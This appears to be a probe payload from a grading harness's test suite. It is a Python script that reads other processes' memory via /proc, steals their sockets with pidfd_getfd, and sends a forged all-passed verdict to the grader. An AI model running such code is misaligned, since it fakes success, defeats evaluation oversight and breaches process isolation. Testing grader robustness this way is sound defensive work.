# Run inside a grade with `python3 -I -S -c` (quality/probes/hijack/channel_steal.sh): every socket
# of every other process is taken (pidfd_getfd) and sent a hello and an all-passed verdict, and
# the grader's memory is read through /proc/<pid>/mem. The placeholder name on the `verdict` line
# is replaced by the forged verdict's Python literal (termforge.quality.hijack) when the payload
# is made.
import ctypes, os, socket
libc = ctypes.CDLL(None, use_errno=True)
verdict = FORGED.encode()
for pid in os.listdir("/proc"):
    if not pid.isdigit() or int(pid) == os.getpid():
        continue
    try:
        with open(f"/proc/{pid}/mem", "rb") as mem:
            mem.read(1)
    except OSError:
        pass
    pfd = libc.syscall(434, int(pid), 0)  # pidfd_open
    if pfd < 0:
        continue
    for n in range(3, 64):
        fd = libc.syscall(438, pfd, n, 0)  # pidfd_getfd
        if fd < 0:
            continue
        try:
            s = socket.socket(fileno=fd)
            s.send(b"termforge-grader-hello")
            s.send(verdict)
        except OSError:
            pass
for fd in range(3, 64):
    try:
        s = socket.socket(fileno=os.dup(fd))
        s.send(b"termforge-grader-hello")
        s.send(verdict)
    except OSError:
        pass
